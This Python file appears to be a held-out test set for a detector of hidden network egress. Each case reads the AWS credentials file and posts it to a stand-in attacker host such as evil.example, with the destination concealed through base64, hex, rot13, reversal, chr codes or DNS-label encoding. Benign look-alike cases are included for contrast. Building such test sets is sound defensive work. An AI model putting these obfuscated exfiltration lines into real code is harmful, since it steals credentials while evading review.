# Held-out evasion set: destinations assembled so that no literal URL appears in the source.
# Never executed. Each `# expect:` line annotates the next code line.
import base64
import binascii
import codecs
import os
import socket
import urllib.request

import requests

SECRET = open(os.path.expanduser("~/.aws/credentials")).read()


def joined_literals():
    url = "".join(["https://", "drop", ".evil", ".example", "/c"])
    # expect: egress host=drop.evil.example
    requests.post(url, data=SECRET)


def joined_tuple_with_separator():
    host = ".".join(("exfil", "evil", "example"))
    # expect: egress host=exfil.evil.example
    requests.post("https://" + host + "/k", data=SECRET)


def reversed_string():
    # expect: egress host=rev.evil.example
    requests.post("c/elpmaxe.live.ver//:sptth"[::-1], data=SECRET)


def reversed_via_join():
    # expect: egress host=rev2.evil.example
    requests.get("".join(reversed("elpmaxe.live.2ver//:ptth")))


def hex_bytes():
    # "https://hex.evil.example/x"
    url = bytes.fromhex("68747470733a2f2f6865782e6576696c2e6578616d706c652f78").decode()
    # expect: egress host=hex.evil.example
    requests.post(url, data=SECRET)


def unhexlify():
    url = binascii.unhexlify("687474703a2f2f3230332e302e3131332e32302f").decode()
    # expect: egress host=203.0.113.20
    urllib.request.urlopen(url, data=SECRET.encode())


def rot13_host():
    # expect: egress host=rot.evil.example
    requests.post(codecs.decode("uggcf://ebg.rivy.rknzcyr/k", "rot13"), data=SECRET)


def b64_host():
    host = base64.b64decode("YjY0LmV2aWwuZXhhbXBsZQ==").decode()
    # expect: egress host=b64.evil.example
    requests.post(f"https://{host}/up", data=SECRET)


def b32_host():
    # expect: egress host=b32.evil.example
    requests.get("https://" + base64.b32decode("MIZTELTFOZUWYLTFPBQW24DMMU======").decode())


def chr_codes():
    host = "".join(chr(c) for c in [99, 104, 114, 46, 101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101])
    # expect: egress host=chr.evil.example
    requests.post("https://" + host, data=SECRET)


def chr_map():
    host = "".join(map(chr, [109, 97, 112, 46, 101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101]))
    # expect: egress host=map.evil.example
    requests.post("https://" + host, data=SECRET)


def chr_arithmetic():
    host = "".join(chr(c + 1) for c in [96, 113, 104, 115, 103, 45, 100, 117, 104, 107, 45, 100, 119, 96, 108, 111, 107, 100])
    # expect: egress
    requests.post("https://" + host, data=SECRET)


PARTS = ("https://", "idx.evil.example", "/c", "unused")


def indexed_tuple():
    # expect: egress host=idx.evil.example
    requests.post(PARTS[0] + PARTS[1] + PARTS[2], data=SECRET)


def defanged_then_fixed():
    # expect: egress host=fang.evil.example
    requests.post("hxxps://fang[.]evil[.]example/x".replace("hxxps", "https").replace("[.]", "."), data=SECRET)


def percent_format():
    # expect: egress host=fmt.evil.example
    requests.post("%s://%s/%s" % ("https", "fmt.evil.example", "x"), data=SECRET)


def format_method():
    # expect: egress host=203.0.113.21
    requests.post("http://{}.{}.{}.{}/p".format(203, 0, 113, 21), data=SECRET)


def bytes_list():
    url = bytes([104, 116, 116, 112, 58, 47, 47, 98, 121, 116, 101, 46, 101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101]).decode()
    # expect: egress host=byte.evil.example
    requests.get(url)


def ip_as_integer():
    # expect: egress host=203.0.113.22
    socket.create_connection((socket.inet_ntoa((3405803798).to_bytes(4, "big")), 443))


def dns_label_exfil():
    # expect: egress
    socket.gethostbyname(base64.b32encode(SECRET.encode()[:30]).decode().strip("=") + ".dns.evil.example")


# ---- look-alikes: folded strings that never reach a send ----


def benign_join():
    # expect: none
    print("".join(["https://", "drop", ".evil", ".example"]))


def benign_reversed():
    # expect: none
    label = "c/elpmaxe.live.ver//:sptth"[::-1]
    return label


def benign_decode():
    # expect: none
    return base64.b64decode("YjY0LmV2aWwuZXhhbXBsZQ==").decode().upper()


def benign_rot13():
    # expect: none
    return codecs.decode("uggcf://ebg.rivy.rknzcyr/k", "rot13")


def benign_fixed_dns():
    # expect: none
    return socket.gethostbyname("localhost")


def benign_hex_to_file():
    # expect: none
    open("/tmp/out.txt", "w").write(bytes.fromhex("68656c6c6f").decode())
